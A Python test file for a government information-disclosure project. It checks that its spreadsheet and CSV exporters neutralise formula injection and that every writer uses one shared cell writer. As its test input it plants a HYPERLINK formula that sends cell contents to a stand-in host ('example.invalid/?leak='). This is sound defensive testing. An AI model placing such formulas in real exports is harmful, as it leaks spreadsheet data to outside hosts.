"""gongkai.spreadsheet_cells, and every exporter through it: "=HYPERLINK(…)" planted in every exported text
field never comes out as a formula (openpyxl: data_type "f" or a value starting with "=")."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from catalog.transfer import export_catalogue
from gongkai import spreadsheet_cells
from gongkai.spreadsheet_cells import TRIGGERS, csv_value, neutralise, restore

PLANT = '=HYPERLINK("http://example.invalid/?leak="&B3,"点击")'
SHORT = '=HYPERLINK("http://x.invalid/",B3)'
_ILLEGAL = {chr(c) for c in (*range(0, 9), 11, 12, *range(14, 32))}


def _reopen(data: bytes):
    return load_workbook(io.BytesIO(data))


def assert_no_formula(data: bytes) -> int:
    """Every cell of every sheet: never a formula. Returns how many text cells were seen."""
    texts = 0
    for sheet in _reopen(data).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert not cell.value.startswith(tuple(TRIGGERS)) or cell.value.lstrip("+-").replace(".", "").isdigit()
    return texts


@given(st.text())
def test_neutralise_round_trips_and_never_starts_a_formula(text):
    safe = neutralise(text)
    assert restore(safe) == text
    assert not safe.startswith(tuple(TRIGGERS)) or safe == text  # only numbers such as "-5" keep their sign
    assert safe in (text, "'" + text)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_any_text_is_a_text_cell_that_reads_back(texts):
    book = Workbook()
    spreadsheet_cells.append(book.active, texts)
    out = io.BytesIO()
    book.save(out)
    cells = next(_reopen(out.getvalue()).active.iter_rows(max_row=1))
    for text, cell in zip(texts, cells, strict=False):
        visible = "".join(ch for ch in text if ch not in _ILLEGAL)
        if not visible:
            continue
        assert cell.data_type == "s" and restore(cell.value).replace("\r\n", "\n") == visible.replace("\r\n", "\n")


@given(st.text())
def test_any_text_is_a_csv_field_that_reads_back(text):
    out = io.StringIO()
    csv.writer(out).writerow([csv_value(text), csv_value(3)])
    field, number = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert restore(field) == text.replace("\r\n", "\n").replace("\r", "\n") or restore(field) == text
    assert number == "3"


def test_numbers_dates_and_booleans_stay_what_they_are():
    from datetime import date
    from decimal import Decimal

    book = Workbook()
    spreadsheet_cells.append(book.active, [-5, 2.5, Decimal("1.25"), date(2024, 1, 31), True, None, "-5", "@x"])
    out = io.BytesIO()
    book.save(out)
    row = next(_reopen(out.getvalue()).active.iter_rows(values_only=True))
    assert row[:3] == (-5, 2.5, 1.25) and row[3].date() == date(2024, 1, 31) and row[4] is True
    assert row[5:] == (None, "-5", "'@x")
    assert [csv_value(v) for v in (-5, None, date(2024, 1, 31), "+1+1")] == ["-5", "", "2024-01-31", "'+1+1"]


# ------------------------------------------------------------------------------------------------ exporters


def test_checkup_result_xlsx(tmp_path):
    """年报体检 result.xlsx (also `gongkai checkup --out x.xlsx`): file names and everything read from a report."""
    from report_checkup.output import write_xlsx

    report = {"source": PLANT, "agency": PLANT, "year": 2024, "format": PLANT, "cells": {PLANT: PLANT, "t3.x": 5},
              "unreadable": [PLANT], "findings": [{"code": PLANT, "severity": PLANT, "message": PLANT,
                                                   "cells": [PLANT], "where": PLANT}],
              "cell_sources": {PLANT: {"raw": PLANT, "where": PLANT, "flags": [PLANT]}}}
    path = tmp_path / "x.xlsx"
    write_xlsx([report], path)
    assert assert_no_formula(path.read_bytes()) > 15
    assert _reopen(path.read_bytes())["报告"]["A2"].value == "'" + PLANT


@pytest.mark.django_db
def test_agency_export_xlsx_and_csv(region):
    from orgs.models import Agency
    from orgs.transfer import export_agencies

    Agency.objects.filter(code="edu").update(name=PLANT, short_name=PLANT, address=PLANT, phone=PLANT,
                                             office_hours=PLANT)
    data = export_agencies(Agency.objects.all(), "xlsx")
    assert assert_no_formula(data) and any(c == "'" + PLANT for row in _reopen(data).worksheets[0].iter_rows(
        values_only=True) for c in row)
    text = export_agencies(Agency.objects.all(), "csv").decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert "'" + PLANT in fields and PLANT not in fields


def test_table_writer_used_by_the_catalogue_and_report_figures_exports():
    from gongkai.tables import Column, write_csv, write_xlsx

    columns = [Column(PLANT, "a"), Column("数值", "b"), Column("代码", "c", text=True)]
    data = write_xlsx(columns, [[PLANT, -3, "+86"]], sheet_title="数据", help_sheet_title="说明", help_title=PLANT,
                      rules=[PLANT])
    assert assert_no_formula(data) >= 4
    row = list(_reopen(data)["数据"].iter_rows(min_row=2, values_only=True))[0]
    assert row == ("'" + PLANT, -3, "+86")
    assert write_csv([PLANT], [[PLANT]]).decode("utf-8-sig").splitlines()[1] == '"\'' + PLANT.replace('"', '""') + '"'


def test_report_xlsx_cell_writer():
    """reports.rendering.xlsx writes every cell through one put()."""
    from types import SimpleNamespace

    from reports.rendering.xlsx import _Book

    book = _Book(SimpleNamespace(title=PLANT, agency_name=PLANT))
    book.listing("单元格", [(PLANT, 10), ("数值", 10)], [[PLANT, 5], [PLANT, PLANT]])
    out = io.BytesIO()
    book.workbook.save(out)
    assert assert_no_formula(out.getvalue()) >= 5


@pytest.mark.django_db
def test_catalogue_export_xlsx_and_csv(region, settings, tmp_path):
    """目录 export (web and `gongkai catalogue export`): every text the export writes planted as a formula —
    the item's own fields, the 索引号 others point at (解读, 替代), the agency code and the attachment name."""
    from catalog.models import Attachment, Document
    from catalog.tests.test_transfer import EDU_2018, catalogue_rows, imported, to_csv
    from orgs.models import Agency

    settings.MEDIA_ROOT = tmp_path  # SHORT: the agency code and 不予公开理由 columns hold 40 characters
    imported(to_csv(catalogue_rows()))
    target = Document.objects.get(index_number=EDU_2018)
    Attachment.objects.create(document=target, file="x.pdf", original_name=SHORT, content_type="application/pdf",
                              size=1)
    planted = ("index_number", "title", "document_number", "summary", "keywords", "withholding_ground",
               "legal_basis", "body")
    Document.objects.filter(pk=target.pk).update(**dict.fromkeys(planted, SHORT))
    Agency.objects.filter(code="edu").update(code=SHORT)
    data = export_catalogue(Document.objects.all(), "xlsx")
    assert assert_no_formula(data)
    cells = [c for row in _reopen(data)["目录"].iter_rows(values_only=True) for c in row]
    # the 8 planted fields, the publisher's code on 3 rows, 解读 and 替代 pointing at the target, the attachment
    assert cells.count("'" + SHORT) >= len(planted) + 3 + 2 + 1 and SHORT not in cells
    fields = [f for row in csv.reader(io.StringIO(export_catalogue(Document.objects.all(), "csv").decode("utf-8-sig")))
              for f in row]
    assert fields.count("'" + SHORT) == cells.count("'" + SHORT) and not any(f.startswith("=") for f in fields)


WRITERS = {"gongkai/tables.py", "reports/rendering/xlsx.py", "report_checkup/output.py", "monitoring/reporting.py"}


def test_every_spreadsheet_writer_goes_through_the_cell_writer():
    """The writers of docs/security.md S13 are the only code that makes a workbook or a CSV, and each one
    imports gongkai.spreadsheet_cells; a new writer elsewhere fails here until it does the same."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    making = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter|pyexcel|\bto_excel\(|\bto_csv\(")
    found = set()
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "var/", "bench/", "node_modules/")) or "/tests/" in relative \
                or "/migrations/" in relative or relative.startswith("deploy/stack_tests/"):
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if making.search(text):
            found.add(relative)
            assert "spreadsheet_cells" in text, f"{relative} writes a spreadsheet without gongkai.spreadsheet_cells"
    assert found == WRITERS
